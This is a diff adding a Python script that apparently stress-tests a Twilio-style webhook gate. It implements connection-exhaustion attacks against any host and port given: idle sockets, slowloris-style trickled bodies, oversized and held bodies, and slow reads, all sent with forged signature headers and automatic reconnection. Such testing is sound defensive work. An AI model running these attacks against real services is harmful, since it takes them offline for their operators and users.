@@ -1,0 +1,96 @@
+"""Attacks that the ready-made tools do not know. One per process: attack.py KIND HOST PORT COUNT SECONDS."""
+
+import asyncio
+import resource
+import socket
+import sys
+import time
+
+HEAD = (
+    "POST /voice HTTP/1.1\r\nHost: hooks.example.com\r\n"
+    "Content-Type: application/x-www-form-urlencoded\r\n"
+    "X-Twilio-Signature: AAAAAAAAAAAAAAAAAAAAAAAAAAA=\r\nContent-Length: {}\r\n\r\n"
+)
+
+
+async def connect(host: str, port: int, number: int):
+    """From one of many addresses of this machine: no more than 1,000 connections each."""
+    source = (f"127.0.0.{2 + number // 1000}", 0) if host == "127.0.0.1" else None
+    return await asyncio.open_connection(host, port, local_addr=source)
+
+
+async def idle(host, port, number, until):
+    """Connects and says nothing."""
+    reader, writer = await connect(host, port, number)
+    await asyncio.wait_for(reader.read(), until - time.monotonic())
+    writer.close()
+
+
+async def slow_body(host, port, number, until):
+    """A forged head, and then a byte of its body each half second."""
+    _, writer = await connect(host, port, number)
+    writer.write(HEAD.format(200_000).encode())
+    while time.monotonic() < until:
+        writer.write(b"a")
+        await writer.drain()
+        await asyncio.sleep(0.5)
+    writer.close()
+
+
+async def big_body(host, port, number, until, size=262_144):
+    """Forged bodies as long as a body may be, one after the other."""
+    while time.monotonic() < until:
+        reader, writer = await connect(host, port, number)
+        writer.write(HEAD.format(size).encode() + b"a" * size)
+        await writer.drain()
+        await reader.readuntil(b"\r\n\r\n")
+        writer.close()
+
+
+async def too_big(host, port, number, until):
+    """The same with a byte more."""
+    await big_body(host, port, number, until, 262_145)
+
+
+async def held_body(host, port, number, until):
+    """All of a forged body but its last byte, held for as long as the gate waits."""
+    reader, writer = await connect(host, port, number)
+    writer.write(HEAD.format(262_144).encode() + b"a" * 262_143)
+    await writer.drain()
+    await asyncio.wait_for(reader.read(), until - time.monotonic())
+    writer.close()
+
+
+async def slow_read(host, port, number, until):
+    """Asks again and again and never reads an answer."""
+    address = (host, port)
+    with socket.socket() as plain:
+        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
+        plain.setblocking(False)
+        loop = asyncio.get_running_loop()
+        await loop.sock_connect(plain, address)
+        request = b"GET /voice HTTP/1.1\r\nHost: hooks.example.com\r\n\r\n" * 50
+        while (left := until - time.monotonic()) > 0:
+            await asyncio.wait_for(loop.sock_sendall(plain, request), left)
+
+
+async def again(attack, host, port, number, until):
+    """Whoever is thrown out comes back."""
+    await asyncio.sleep(number % 100 / 200)
+    while time.monotonic() < until:
+        try:
+            await attack(host, port, number, until)
+        except (OSError, EOFError, asyncio.TimeoutError):
+            await asyncio.sleep(0.1)
+
+
+async def main() -> None:
+    kind, host, port, count, seconds = sys.argv[1:]
+    attack = {f.__name__: f for f in (idle, slow_body, big_body, too_big, held_body, slow_read)}[kind]
+    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    until = time.monotonic() + float(seconds)
+    await asyncio.gather(*(again(attack, host, int(port), n, until) for n in range(int(count))))
+
+
+asyncio.run(main())
